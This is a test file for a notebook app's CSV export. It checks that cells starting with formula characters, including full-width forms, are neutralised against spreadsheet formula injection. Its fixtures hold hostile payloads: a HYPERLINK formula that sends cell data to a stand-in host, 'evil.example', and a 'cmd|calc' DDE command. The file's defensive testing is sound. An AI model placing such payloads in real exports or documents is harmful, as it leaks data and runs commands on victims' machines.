import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { useTempDir } from '../../../../tests/helpers'
import { openNotebook } from '../notebook'
import { csvField, toCsv } from './csv'
import { addArticle, highlight, parseCsv } from './testkit'
import { exportVault } from './vault'

const tempDir = useTempDir()

// What a spreadsheet evaluates when a cell starts with it (OWASP CSV injection), including the
// full-width forms Excel folds to ASCII and a leading space, which does not stop evaluation.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '  =1+1',
]

describe('CSV cells', () => {
  it('puts a quote before every cell a spreadsheet would read as a formula, and leaves other text and numbers alone', () => {
    for (const f of FORMULAS) expect(parseCsv(csvField(f))[0]?.[0]).toBe(`'${f}`)
    expect(csvField('Talks resume = progress')).toBe('Talks resume = progress')
    expect(csvField(-3)).toBe('-3')
    expect(csvField('')).toBe('')
  })

  it('quotes a cell holding a comma, a quote, or a lone CR or LF, and ends every row with CRLF after a BOM', () => {
    expect(toCsv([['a\nb', 'c\rd', 'e\r\nf', 'x,y', 'say "no"', 'plain', 7]])).toBe(
      '\uFEFF"a\nb","c\rd","e\r\nf","x,y","say ""no""",plain,7\r\n',
    )
    expect(
      parseCsv(
        toCsv([
          ['a\nb', 'c'],
          ['', null],
        ]).slice(1),
      ),
    ).toEqual([
      ['a\nb', 'c'],
      ['', ''],
    ])
  })

  it('neutralises formulas in imported titles, quotes and comments of highlights.csv', async () => {
    const dir = tempDir()
    const nb = openNotebook(join(dir, 'n.parley'))
    const id = addArticle(
      nb.db,
      'evil.txt',
      `=HYPERLINK("http://evil.example","Talks")\n\nOfficials said @SUM(1,1) was agreed and the embassy staff would return in May.\n`,
    )
    highlight(nb.db, id, '@SUM(1,1) was agreed', 1, '\uff1dcmd|calc')
    const out = join(dir, 'vault')
    await exportVault(nb.db, out)
    nb.close()
    const [header, ...rows] = parseCsv(readFileSync(join(out, 'highlights.csv'), 'utf8'))
    const row = rows[0] as string[]
    const col = (name: string): string => row[(header as string[]).indexOf(name)] as string
    expect(col('article')).toBe(`'=HYPERLINK("http://evil.example","Talks")`)
    expect(col('exact')).toBe(`'@SUM(1,1) was agreed`)
    expect(col('comment')).toBe(`'\uff1dcmd|calc`)
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/)
  })
})
